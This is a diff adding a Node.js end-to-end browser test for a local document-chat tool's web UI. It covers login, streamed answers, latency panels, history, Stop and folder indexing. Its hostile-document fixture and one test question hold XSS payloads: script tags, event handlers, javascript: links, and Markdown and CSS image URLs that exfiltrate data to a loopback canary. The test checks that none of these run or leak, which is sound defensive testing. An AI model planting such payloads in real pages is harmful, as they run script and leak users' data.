@@ -1,0 +1,537 @@
+// End-to-end test of the built UI against the real `lore serve` (not the mock): synthetic tiny models
+// (`lore synth-model`), a generated library with one hostile document, `lore index`, `lore serve` on a free
+// loopback port, and Debian's chromium driving the page.
+//
+// Checked: login through ?token=; an answer shows a live stage in its placeholder, then its sources, then
+// streamed tokens; the latency panel draws every waterfall stage; the UI's own TTFT reaches the stored trace;
+// history lists and reopens the chat; Stop cancels a long generation on the server; the hostile document's
+// XSS and exfiltration payloads reach the DOM (question, passage view, and — with a second server that has no
+// chat model, so the answer quotes the passages — the rendered Markdown answer) without running anything or
+// reaching a canary HTTP server on loopback; adding a folder in the Library shows the progress bar to the end.
+//
+//   node e2e/real.mjs        (make test-e2e; needs `make ui build` first)
+//
+// Env: LORE_BIN (default ../bin/lore), LORE_E2E_SCREENSHOTS (artefacts: screenshots, server logs; default
+// ../test-artifacts/e2e), LORE_E2E_KEEP=1 keeps the temporary folder. Prints `N passed, N failed`.
+import assert from 'node:assert/strict';
+import { spawn } from 'node:child_process';
+import { createServer } from 'node:http';
+import { createWriteStream, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join, resolve } from 'node:path';
+import { createInterface } from 'node:readline';
+import { fileURLToPath } from 'node:url';
+import { launch, watchPage } from './browser.mjs';
+
+const repo = resolve(fileURLToPath(new URL('../..', import.meta.url)));
+const LORE = resolve(process.env.LORE_BIN ?? join(repo, 'bin/lore'));
+const ART = resolve(process.env.LORE_E2E_SCREENSHOTS ?? join(repo, 'test-artifacts/e2e'));
+process.env.LORE_E2E_SCREENSHOTS = ART; // browser.mjs saves screenshots there
+mkdirSync(ART, { recursive: true });
+ignoreArtifacts(ART);
+
+for (const [f, hint] of [[LORE, 'make build'], [join(repo, 'frontend/dist/index.html'), 'make ui']]) {
+  if (!existsSync(f)) {
+    console.error(`${f} is missing: run \`${hint}\` first`);
+    process.exit(2);
+  }
+}
+
+const ANSWER_TOKENS = 40; // max_tokens for ordinary answers: enough to see streaming, quick on 2 cores
+const LONG_TOKENS = 4096; // for the Stop test: far more than the time the test waits
+const ADDED_FILES = 80; // the folder added through the UI: enough files for the progress bar to move
+const T_ANSWER = 120_000;
+
+const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
+const started = Date.now();
+let passed = 0;
+const failures = [];
+async function step(name, fn) {
+  const t = Date.now();
+  try {
+    await fn();
+    passed++;
+    console.log(`ok   ${name} (${((Date.now() - t) / 1000).toFixed(1)} s)`);
+  } catch (e) {
+    failures.push(name);
+    console.log(`FAIL ${name} (${((Date.now() - t) / 1000).toFixed(1)} s)\n     ${String(e?.stack ?? e).split('\n').slice(0, 5).join('\n     ')}`);
+  }
+}
+
+// ---------------------------------------------------------------------------------------------- fixtures
+
+/** A loopback HTTP server that records every request: nothing in the page may ever reach it. */
+function startCanary() {
+  const hits = [];
+  const srv = createServer((req, res) => {
+    hits.push(`${req.method} ${req.url}`);
+    res.writeHead(200, { 'content-type': 'image/png', 'access-control-allow-origin': '*' });
+    res.end();
+  });
+  return new Promise((r) => srv.listen(0, '127.0.0.1', () => r({ port: srv.address().port, hits, close: () => srv.close() })));
+}
+
+const TOPICS = {
+  'volcanoes.md': ['Volcanoes', 'A volcano erupts when magma rises through cracks in the crust. Basaltic lava flows reach about 1200 degrees Celsius and cool into black rock. Ash clouds from explosive eruptions can ground aircraft for days.'],
+  'sourdough.md': ['Sourdough', 'Sourdough bread rises with a wild yeast starter fed with flour and water. The starter also holds lactic acid bacteria, which give the crumb its sour taste. Bakers proof the dough overnight in a cool room.'],
+  'honeybees.md': ['Honeybees', 'A honeybee colony has one queen, thousands of workers and a few hundred drones. Foragers perform a waggle dance to tell their sisters the direction and distance of flowers. Honey is nectar dried by fanning wings.'],
+  'lighthouses.txt': ['Lighthouses', 'The lighthouse keeper trimmed the wick every night and wound the clockwork that turned the lens. A Fresnel lens bends the lamp light into a narrow beam visible thirty kilometres out to sea.'],
+  'chess.md': ['Chess openings', 'The Sicilian Defence answers the king pawn opening with the c-pawn. The Queen Gambit offers a pawn to gain the centre. Opening theory fills whole libraries, but principles matter more: develop, castle, control the centre.'],
+  'tides.md': ['Tides', 'Tides rise and fall twice a day because the moon pulls the oceans into two bulges. Spring tides follow the full and new moon; neap tides come at the quarter moons, when sun and moon pull at right angles.'],
+  'glaciers.md': ['Glaciers', 'A glacier forms where snow piles up faster than it melts and compacts into ice. Glaciers carve U-shaped valleys and leave moraines of rubble. Many alpine glaciers have lost half their volume in a century.'],
+  'violins.txt': ['Violin making', 'A luthier carves the violin top from spruce and the back from maple. The sound post, a small dowel inside the body, carries vibration from the top to the back. Varnish recipes were closely guarded secrets.'],
+  'coral.md': ['Coral reefs', 'Coral reefs are built by tiny polyps that live with algae inside their tissue. When the water gets too warm the polyps expel the algae and the coral bleaches white. Reefs shelter a quarter of all marine species.'],
+  'espresso.md': ['Espresso', 'An espresso machine forces water at nine bars of pressure through finely ground coffee. A good shot takes about twenty-five seconds and carries a layer of golden crema. Grind size is the first thing baristas adjust.'],
+  'bicycles.md': ['Bicycle gears', 'A derailleur moves the chain between sprockets to change the gear ratio. Low gears make hills easier; high gears give speed on the flat. Hub gears hide the mechanism inside the rear wheel and need little care.'],
+  'aurora.txt': ['Northern lights', 'The aurora borealis glows when charged particles from the solar wind hit oxygen and nitrogen high in the atmosphere. Green light comes from oxygen at about one hundred kilometres; rare red auroras glow higher up.'],
+};
+
+/** The hostile document: script, event handlers, markdown and reference-style image exfiltration, javascript: links. */
+function hostileDoc(port) {
+  const leak = (d) => `http://127.0.0.1:${port}/leak?d=${d}`;
+  return [
+    '# Zanzibar ledger memo',
+    '',
+    `The zanzibar ledger lists quarterly figures. <script>window.__pwned='script';alert('script')</script>`,
+    `<img src=x onerror="window.__pwned='img';alert('img')"> <svg onload="window.__pwned='svg'"></svg>`,
+    `![chart](${leak('inline-image')}) ![logo][exfil] <img src="${leak('html-image')}">`,
+    `[Open the ledger](javascript:window.__pwned='link') <a href="javascript:window.__pwned='a'">ledger</a> [mirror](${leak('link')})`,
+    `<iframe src="javascript:parent.__pwned='iframe'"></iframe> <div style="background:url(${leak('css')})">x</div>`,
+    '',
+    `[exfil]: ${leak('reference-image')}`,
+    '',
+  ].join('\n');
+}
+
+function run(cmd, args, opts = {}) {
+  return new Promise((res, rej) => {
+    const p = spawn(cmd, args, { stdio: ['ignore', 'pipe', 'pipe'], ...opts });
+    let out = '';
+    let err = '';
+    p.stdout.on('data', (d) => (out += d));
+    p.stderr.on('data', (d) => (err += d));
+    p.on('error', rej);
+    p.on('exit', (code) => (code === 0 ? res(out) : rej(new Error(`${cmd} ${args.join(' ')} exited ${code}: ${err.slice(-2000)}`))));
+  });
+}
+
+/** Starts `lore serve`; resolves with its URL (first stdout line), token and an API helper. */
+function startServe(name, args) {
+  return new Promise((res, rej) => {
+    const log = createWriteStream(join(ART, `${name}.log`));
+    const p = spawn(LORE, ['serve', '--addr', '127.0.0.1:0', ...args], { stdio: ['ignore', 'pipe', 'pipe'] });
+    p.stderr.pipe(log);
+    const timer = setTimeout(() => rej(new Error(`${name}: no URL within 60 s`)), 60_000);
+    p.on('exit', (code) => rej(new Error(`${name} exited (${code}) before printing its URL; see ${name}.log`)));
+    const lines = createInterface({ input: p.stdout });
+    lines.once('line', (line) => {
+      clearTimeout(timer);
+      p.stdout.pipe(log);
+      const url = new URL(line.trim());
+      const token = url.searchParams.get('token');
+      const base = url.origin;
+      const api = async (method, path, body) => {
+        const r = await fetch(base + path, {
+          method,
+          headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
+          body: body === undefined ? undefined : JSON.stringify(body),
+        });
+        const text = await r.text();
+        if (!r.ok) throw new Error(`${method} ${path}: ${r.status} ${text}`);
+        return text ? JSON.parse(text) : undefined;
+      };
+      const stop = async () => {
+        if (p.exitCode !== null) return;
+        p.kill('SIGTERM');
+        for (let i = 0; i < 100 && p.exitCode === null; i++) await sleep(100);
+        if (p.exitCode === null) p.kill('SIGKILL');
+      };
+      res({ url: line.trim(), base, token, api, stop, proc: p });
+    });
+  });
+}
+
+// ----------------------------------------------------------------------------------------- page helpers
+
+/** Installed before any page script: records what the page shows over time and what must never happen. */
+function pageProbe() {
+  window.__csp = [];
+  document.addEventListener('securitypolicyviolation', (e) => window.__csp.push(`${e.violatedDirective} ${e.blockedURI}`));
+  // One snapshot per change of the newest answer: stage shown, sources shown, answer length.
+  window.__tl = [];
+  window.__progress = [];
+  const snap = () => {
+    const turns = document.querySelectorAll('[data-testid="turn"]');
+    const turn = turns[turns.length - 1];
+    if (turn) {
+      const ph = turn.querySelector('[data-testid="answer-placeholder"]');
+      const s = {
+        turn: turns.length,
+        stage: ph && !ph.hidden ? ph.getAttribute('data-stage') || '' : null,
+        label: turn.querySelector('[data-testid="answer-stage"]')?.textContent ?? '',
+        sources: !turn.querySelector('[data-testid="sources"]')?.hidden,
+        answer: (turn.querySelector('[data-testid="answer"]')?.textContent ?? '').trim().length,
+        t: performance.now(),
+      };
+      const last = window.__tl[window.__tl.length - 1];
+      if (!last || last.turn !== s.turn || last.stage !== s.stage || last.label !== s.label || last.sources !== s.sources || last.answer !== s.answer) {
+        window.__tl.push(s);
+      }
+    }
+    const pt = document.querySelector('[data-testid="library-progress-text"]')?.textContent;
+    if (pt && window.__progress[window.__progress.length - 1] !== pt) window.__progress.push(pt);
+  };
+  new MutationObserver(snap).observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
+}
+
+/** Console errors and page errors, apart from failed same-origin API calls (listed separately). */
+function watch(page, origin) {
+  const problems = watchPage(page);
+  const apiFailures = [];
+  const dialogs = [];
+  page.on('dialog', (d) => {
+    dialogs.push(`${d.type()}: ${d.message()}`);
+    void d.dismiss().catch(() => undefined);
+  });
+  page.on('requestfailed', (r) => {
+    if (!r.url().startsWith(origin)) problems.push(`request to ${r.url()} failed: ${r.failure()?.errorText}`);
+  });
+  page.on('request', (r) => {
+    const u = r.url();
+    if (!u.startsWith(origin) && !u.startsWith('data:')) problems.push(`request to another origin: ${u}`);
+  });
+  page.on('console', (m) => {
+    // "Failed to load resource: 404" for an API call is the page's own error handling, not injected code.
+    if (/^Failed to load resource/.test(m.text()) && (m.location()?.url ?? '').startsWith(origin + '/api/')) {
+      apiFailures.push(`${m.text()} ${m.location().url}`);
+      const i = problems.findIndex((p) => p.includes(m.text()));
+      if (i >= 0) problems.splice(i, 1);
+    }
+  });
+  return { problems, apiFailures, dialogs };
+}
+
+async function timeline(page, turn) {
+  return (await page.evaluate(() => window.__tl)).filter((s) => s.turn === turn);
+}
+
+/** Asks a question in the chat view and waits until the answer is finished (or failed). */
+async function ask(page, question, { wait = true } = {}) {
+  const tid = (id) => page.getByTestId(id);
+  const turns = await tid('turn').count();
+  await page.evaluate(() => (window.__tl = []));
+  await tid('question-input').fill(question);
+  await tid('submit').click();
+  await page.waitForFunction((n) => document.querySelectorAll('[data-testid="turn"]').length > n, turns);
+  const turn = turns + 1;
+  if (wait) await waitAnswer(page, turn);
+  return turn;
+}
+
+async function waitAnswer(page, turn) {
+  await page.waitForFunction(
+    (n) => {
+      const t = document.querySelectorAll('[data-testid="turn"]')[n - 1];
+      return t && t.classList.contains('done');
+    },
+    turn,
+    { timeout: T_ANSWER },
+  );
+  const err = await page.getByTestId('turn').nth(turn - 1).getByTestId('answer-error');
+  if (await err.isVisible()) throw new Error(`the answer failed: ${await err.textContent()}`);
+}
+
+/** The stored trace of the newest request with this question. */
+async function traceOf(server, question, pred = () => true, timeoutMs = 15_000) {
+  const until = Date.now() + timeoutMs;
+  let last;
+  while (Date.now() < until) {
+    const ts = await server.api('GET', '/api/traces?limit=20');
+    last = ts.find((t) => t.question === question.trim());
+    if (last && pred(last)) return last;
+    await sleep(200);
+  }
+  throw new Error(`no matching trace for ${JSON.stringify(question)}; last seen ${JSON.stringify(last)?.slice(0, 400)}`);
+}
+
+/** What hostile content must never achieve in the page. */
+async function assertInert(page, canary, { dialogs, problems }) {
+  await page.waitForTimeout(1500); // let any image/frame load or handler fire
+  const state = await page.evaluate(() => ({
+    pwned: window.__pwned,
+    csp: window.__csp,
+    imgs: [...document.images].map((i) => i.src),
+    frames: document.querySelectorAll('iframe, frame, object, embed').length,
+    scripts: [...document.scripts].map((s) => s.src || `inline:${s.textContent.slice(0, 40)}`),
+    handlers: document.querySelectorAll('[onerror], [onload], [onclick], [onmouseover], [style]').length,
+    hrefs: [...document.querySelectorAll('[href], [src], [action], [formaction]')]
+      .map((e) => e.getAttribute('href') ?? e.getAttribute('src') ?? e.getAttribute('action') ?? e.getAttribute('formaction'))
+      .filter((u) => u && !u.startsWith('#') && !u.startsWith('./') && !u.startsWith('/') && !u.startsWith(location.origin) && !u.startsWith('data:')),
+  }));
+  assert.equal(state.pwned, undefined, `injected code ran: window.__pwned = ${state.pwned}`);
+  assert.deepEqual(dialogs, [], 'a dialog opened');
+  assert.deepEqual(canary.hits, [], 'the canary server on loopback was contacted');
+  assert.deepEqual(state.imgs, [], 'an image element reached the page');
+  assert.equal(state.frames, 0, 'a frame/object reached the page');
+  assert.ok(state.scripts.every((s) => s.startsWith(new URL(page.url()).origin)), `foreign script: ${state.scripts}`);
+  assert.equal(state.handlers, 0, 'an element with an inline handler or style reached the page');
+  assert.deepEqual(state.hrefs, [], 'a foreign or javascript: URL reached the page');
+  assert.deepEqual(state.csp, [], 'CSP violations (something tried to load or run)');
+  assert.deepEqual(problems, [], 'console/page errors');
+}
+
+// ------------------------------------------------------------------------------------------------ setup
+
+const tmp = mkdtempSync(join(tmpdir(), 'lore-e2e-'));
+const canary = await startCanary();
+const M = { chat: join(tmp, 'chat.gguf'), embed: join(tmp, 'embed.gguf') };
+const LIB = join(tmp, 'library');
+const ADDED = join(tmp, 'added folder');
+const LIB2 = join(tmp, 'library2');
+const HOSTILE = 'zanzibar-ledger.md';
+let server;
+let server2;
+let browser;
+
+try {
+  await step('fixtures: synthetic models, library, index, lore serve', async () => {
+    await run(LORE, ['synth-model', '--shape', 'tiny', '--out', M.chat]);
+    await run(LORE, ['synth-model', '--shape', 'tiny', '--embedding', '--seed', '2', '--out', M.embed]);
+    for (const d of [LIB, ADDED, LIB2]) mkdirSync(d, { recursive: true });
+    for (const [name, [title, body]] of Object.entries(TOPICS)) {
+      writeFileSync(join(LIB, name), name.endsWith('.md') ? `# ${title}\n\n${body}\n` : `${title}\n\n${body}\n`);
+    }
+    writeFileSync(join(LIB, HOSTILE), hostileDoc(canary.port));
+    const fruit = ['apple', 'pear', 'plum', 'cherry', 'quince', 'apricot', 'medlar', 'damson'];
+    for (let i = 0; i < ADDED_FILES; i++) {
+      const f = fruit[i % fruit.length];
+      writeFileSync(join(ADDED, `orchard-${String(i).padStart(3, '0')}.md`),
+        `# Orchard row ${i}\n\nRow ${i} of the orchard holds ${f} trees pruned in late winter. ` +
+        `The ${f} harvest of row ${i} is logged by weight, with notes on frost, pests and the pickers on duty.\n`);
+    }
+    writeFileSync(join(LIB2, HOSTILE), hostileDoc(canary.port));
+    writeFileSync(join(LIB2, 'weather.md'), '# Weather\n\nThe weather station logs rain, wind and temperature every hour.\n');
+    const data = join(tmp, 'data');
+    const out = await run(LORE, ['index', '--data', data, '--embed-model', M.embed, LIB]);
+    assert.match(out, /13 indexed/, out);
+    server = await startServe('serve', ['--data', data, '--model', M.chat, '--embed-model', M.embed]);
+    await server.api('PUT', '/api/settings', { max_tokens: ANSWER_TOKENS });
+    const ws = await server.api('GET', '/api/workspaces');
+    assert.equal(ws.find((w) => w.name === 'default')?.documents, 13, JSON.stringify(ws));
+  });
+  if (!server) throw new Error('no server: cannot go on');
+
+  browser = await launch();
+  const page = await browser.newPage();
+  const watched = watch(page, server.base);
+  await page.addInitScript(pageProbe);
+  const tid = (id) => page.getByTestId(id);
+  const lastTurn = () => tid('turn').last();
+
+  await step('login: ?token= becomes a cookie, the token leaves the address bar', async () => {
+    await page.goto(server.url);
+    assert.equal(new URL(page.url()).search, '');
+    await tid('workspace-select').locator('option[value="default"]').waitFor({ state: 'attached' });
+    assert.equal(await tid('transport-kind').textContent(), 'browser');
+    const cookies = await browser.context.cookies(server.base);
+    assert.ok(cookies.some((c) => c.name === 'lore_token' && c.httpOnly), JSON.stringify(cookies));
+  });
+
+  const Q1 = 'How hot is the lava when a volcano erupts?';
+  let turn1 = 0;
+  await step('ask: live stage in the placeholder → sources → streamed tokens', async () => {
+    turn1 = await ask(page, Q1);
+    const tl = await timeline(page, turn1);
+    const iStage = tl.findIndex((s) => s.stage);
+    const iSources = tl.findIndex((s) => s.sources);
+    const iToken = tl.findIndex((s) => s.answer > 0);
+    const lengths = new Set(tl.filter((s) => s.answer > 0).map((s) => s.answer));
+    const stages = [...new Set(tl.map((s) => s.stage).filter(Boolean))];
+    console.log(`     stages shown: ${stages.join(' → ')}; ${lengths.size} answer updates; labels: ${[...new Set(tl.map((s) => s.label))].join(' | ')}`);
+    assert.ok(iStage >= 0, 'the placeholder never showed a stage');
+    assert.ok(stages.some((s) => ['queue', 'embed', 'retrieval', 'vector', 'bm25', 'prompt_assemble', 'prefill'].includes(s)), `stages ${stages}`);
+    assert.ok(iSources > iStage, `sources (${iSources}) did not come after the first stage (${iStage})`);
+    assert.ok(iToken > iSources, `the first token (${iToken}) came before the sources (${iSources})`);
+    assert.ok(!tl[iSources].answer, 'answer text before the sources');
+    assert.ok(lengths.size >= 3, `the answer did not stream (${lengths.size} updates)`);
+    const docs = await lastTurn().getByTestId('source').locator('.source-doc').allTextContents();
+    assert.ok(docs.includes('volcanoes.md'), `sources: ${docs}`);
+    assert.match(await lastTurn().getByTestId('answer-meta').textContent(), /TTFT/);
+    await browser.screenshot(page, 'e2e-chat');
+  });
+
+  await step('the UI reported its own TTFT and the server stored it', async () => {
+    const t = await traceOf(server, Q1, (x) => x.stages?.ui_ttft_ms > 0, 8000).catch((e) => {
+      throw new Error(`${e.message}\n     API calls that failed in the page: ${watched.apiFailures.join('; ') || 'none'}`);
+    });
+    assert.ok(t.stages.ui_ttft_ms >= t.stages.ttft_ms - 50, `ui_ttft_ms ${t.stages.ui_ttft_ms} < ttft_ms ${t.stages.ttft_ms}`);
+  });
+
+  await step('latency panel: a waterfall row with a bar for every stage', async () => {
+    await lastTurn().getByTestId('show-latency').click();
+    await tid('waterfall').waitFor({ state: 'visible' });
+    const want = ['queue', 'embed', 'vector', 'bm25', 'rerank', 'prompt_assemble', 'prefill', 'first_decode', 'paint'];
+    const rows = await tid('waterfall').locator('[data-testid^="waterfall-row-"]').evaluateAll((els) =>
+      els.map((e) => ({ stage: e.getAttribute('data-stage'), ms: e.getAttribute('data-ms'), start: e.getAttribute('data-start-ms'), bar: !!e.querySelector('rect.wf-bar') })));
+    console.log(`     rows: ${rows.map((r) => `${r.stage} ${r.ms}ms@${r.start}`).join(', ')}`);
+    for (const s of want) {
+      const r = rows.find((x) => x.stage === s);
+      assert.ok(r, `no ${s} row`);
+      assert.ok(r.bar && r.ms !== '' && r.start !== '', `${s} row has no bar/timing: ${JSON.stringify(r)}`);
+    }
+    assert.match(await tid('trace-question').textContent(), /volcano/);
+    await tid('stats-table').waitFor();
+    await tid('history-item').first().waitFor();
+    await browser.screenshot(page, 'e2e-latency', { fullPage: true });
+  });
+
+  await step('history: the chat is listed and reopens', async () => {
+    await tid('nav-chat').click();
+    await tid('new-chat').click();
+    assert.equal(await tid('turn').count(), 0);
+    const item = tid('chat-item').filter({ hasText: 'volcano' }).first();
+    await item.waitFor();
+    await item.click();
+    await page.waitForFunction(() => document.querySelectorAll('[data-testid="turn"]').length === 1);
+    assert.equal(await tid('question').first().textContent(), Q1);
+    assert.ok(((await tid('answer').first().textContent()) ?? '').trim().length > 0, 'the reopened answer is empty');
+    assert.ok(await tid('chat-item').filter({ hasText: 'volcano' }).first().evaluate((e) => e.classList.contains('active')));
+    await browser.screenshot(page, 'e2e-history');
+    await tid('new-chat').click();
+  });
+
+  const QX = `What does the zanzibar ledger memo say? <img src=x onerror="window.__pwned='question'"> ![q](http://127.0.0.1:${canary.port}/leak?d=question)`;
+  await step('hostile document: payloads reach the DOM as text (question, passage, answer); nothing runs or leaks', async () => {
+    const turn = await ask(page, QX);
+    const t = tid('turn').nth(turn - 1);
+    assert.equal(await t.getByTestId('question').textContent(), QX, 'the question is shown verbatim');
+    const src = t.getByTestId('source').filter({ hasText: HOSTILE });
+    assert.equal(await src.count(), 1, `the hostile document was not retrieved: ${await t.getByTestId('source').allTextContents()}`);
+    await src.locator('button').click();
+    const passage = t.getByTestId('passage-text');
+    await passage.waitFor({ state: 'visible' });
+    const text = await passage.textContent();
+    for (const s of ['<script>', 'onerror=', '![logo][exfil]', 'javascript:', `127.0.0.1:${canary.port}/leak`]) {
+      assert.ok(text.includes(s), `the passage does not show ${s} literally: ${text.slice(0, 200)}`);
+    }
+    await browser.screenshot(page, 'e2e-xss-passage');
+    await assertInert(page, canary, watched);
+  });
+
+  const QS = 'Tell me everything about tides, glaciers and coral reefs.';
+  await step('stop: cancels a long generation, in the page and on the server', async () => {
+    await server.api('PUT', '/api/settings', { max_tokens: LONG_TOKENS });
+    try {
+      const turn = await ask(page, QS, { wait: false });
+      await page.waitForFunction(
+        (n) => (window.__tl.filter((s) => s.turn === n && s.answer > 0).length >= 3),
+        turn,
+        { timeout: T_ANSWER },
+      );
+      await tid('stop').click();
+      const t = tid('turn').nth(turn - 1);
+      assert.equal(await t.getByTestId('answer-error').textContent(), 'Stopped.');
+      assert.ok(await tid('stop').isHidden());
+      const tr = await traceOf(server, QS, (x) => x.stop_reason !== undefined || x.decode_tokens > 0, 30_000);
+      assert.equal(tr.stop_reason, 'cancel', `stop_reason ${tr.stop_reason}`);
+      assert.ok(tr.decode_tokens < LONG_TOKENS, `decoded ${tr.decode_tokens} tokens`);
+      console.log(`     stopped after ${tr.decode_tokens} tokens, ${Math.round(tr.stages.total_ms)} ms`);
+      await browser.screenshot(page, 'e2e-stopped');
+    } finally {
+      await server.api('PUT', '/api/settings', { max_tokens: ANSWER_TOKENS });
+    }
+    // The engine is free again: the next question is answered.
+    const turn = await ask(page, 'How does a sourdough starter work?');
+    assert.ok(((await tid('turn').nth(turn - 1).getByTestId('answer').textContent()) ?? '').trim().length > 0);
+  });
+
+  await step('library: add a folder by path, the progress bar runs to the end', async () => {
+    await tid('nav-library').click();
+    await tid('folder').first().waitFor();
+    await page.evaluate(() => (window.__progress = []));
+    await tid('folder-path-input').fill(ADDED);
+    await tid('add-folder').click();
+    // The text said "Up to date" before (the last run); done = some progress shown, then "Up to date" again.
+    const finished = (seen) => {
+      const i = seen.findIndex((s) => s !== 'Up to date');
+      return i >= 0 && seen.slice(i).includes('Up to date');
+    };
+    let shot = false;
+    const until = Date.now() + T_ANSWER;
+    while (Date.now() < until) {
+      const seen = await page.evaluate(() => window.__progress);
+      if (finished(seen)) break;
+      if (!shot && /\d+ \/ \d+ files/.test(seen[seen.length - 1] ?? '')) {
+        await browser.screenshot(page, 'e2e-library-progress');
+        shot = true;
+      }
+      await sleep(50);
+    }
+    const seen = await page.evaluate(() => window.__progress);
+    console.log(`     progress texts: ${seen.slice(0, 4).join(' | ')}${seen.length > 4 ? ` … (${seen.length})` : ''}`);
+    assert.equal(await tid('library-progress-text').textContent(), 'Up to date', 'indexing did not finish');
+    assert.ok(seen.some((s) => /\d+ \/ \d+ files/.test(s)), `no progress with file counts was shown: ${seen}`);
+    assert.equal(await tid('library-progress').evaluate((e) => e.value === e.max), true, 'the bar is not full');
+    await page.waitForFunction((n) => document.querySelectorAll('[data-testid="document"]').length >= n, 13 + ADDED_FILES);
+    assert.equal(await tid('folder').count(), 2);
+    assert.ok((await tid('folder').allTextContents()).some((s) => s.includes(ADDED)));
+    const ws = await server.api('GET', '/api/workspaces');
+    assert.equal(ws[0].documents, 13 + ADDED_FILES, JSON.stringify(ws));
+    await browser.screenshot(page, 'e2e-library-done', { fullPage: true });
+  });
+
+  await step('no CSP violations, page errors or console errors in the whole session', async () => {
+    assert.deepEqual(await page.evaluate(() => window.__csp), []);
+    assert.deepEqual(watched.problems, []);
+    assert.deepEqual(watched.dialogs, []);
+    if (watched.apiFailures.length) console.log(`     API calls answered with an error: ${watched.apiFailures.join('; ')}`);
+  });
+
+  // A second server with no chat model: the answer quotes the passages (extractive fallback), so the hostile
+  // Markdown goes through the answer renderer (marked + DOMPurify) for real.
+  await step('hostile Markdown rendered as the answer (extractive fallback): inert, nothing leaks', async () => {
+    const data2 = join(tmp, 'data2');
+    await run(LORE, ['index', '--data', data2, LIB2]);
+    server2 = await startServe('serve-extractive', ['--data', data2]);
+    const p2 = await browser.context.newPage();
+    const w2 = watch(p2, server2.base);
+    await p2.addInitScript(pageProbe);
+    await p2.goto(server2.url);
+    await p2.getByTestId('workspace-select').locator('option[value="default"]').waitFor({ state: 'attached' });
+    const turn = await ask(p2, 'zanzibar ledger quarterly figures');
+    const answer = p2.getByTestId('turn').nth(turn - 1).getByTestId('answer');
+    const text = (await answer.textContent()) ?? '';
+    assert.match(text, /Extractive answer/);
+    assert.ok(text.includes('onerror') && text.includes('<script>'), `raw HTML is not shown as text: ${text.slice(0, 300)}`);
+    const blocked = await answer.locator('.md-img-blocked').allTextContents();
+    assert.ok(blocked.length >= 2, `inline and reference images should become placeholders: ${blocked}`);
+    assert.ok(blocked.some((b) => b.includes('logo')), `the reference-style image was not neutralised: ${blocked}`);
+    await p2.getByTestId('turn').nth(turn - 1).getByTestId('source').first().locator('button').click();
+    await p2.getByTestId('passage-text').waitFor({ state: 'visible' });
+    await browser.screenshot(p2, 'e2e-xss-answer');
+    await assertInert(p2, canary, w2);
+    await p2.close();
+  });
+} catch (e) {
+  failures.push(`setup: ${e.message}`);
+  console.log(`FAIL ${e.stack ?? e}`);
+} finally {
+  await browser?.close().catch(() => undefined);
+  await server?.stop();
+  await server2?.stop();
+  canary.close();
+  if (process.env.LORE_E2E_KEEP === '1') console.log(`kept ${tmp}`);
+  else rmSync(tmp, { recursive: true, force: true });
+}
+console.log(`artefacts in ${ART}; ${((Date.now() - started) / 1000).toFixed(0)} s`);
+console.log(`${passed} passed, ${failures.length} failed`);
+process.exit(failures.length ? 1 : 0);
+
+/** Keeps a repository-local test-artifacts/ folder out of git without touching the repository's .gitignore. */
+function ignoreArtifacts(dir) {
+  const i = dir.indexOf('/test-artifacts');
+  if (!dir.startsWith(repo + '/') || i < 0) return;
+  const root = dir.slice(0, i + '/test-artifacts'.length);
+  mkdirSync(root, { recursive: true });
+  if (!existsSync(join(root, '.gitignore'))) writeFileSync(join(root, '.gitignore'), '*\n');
+}
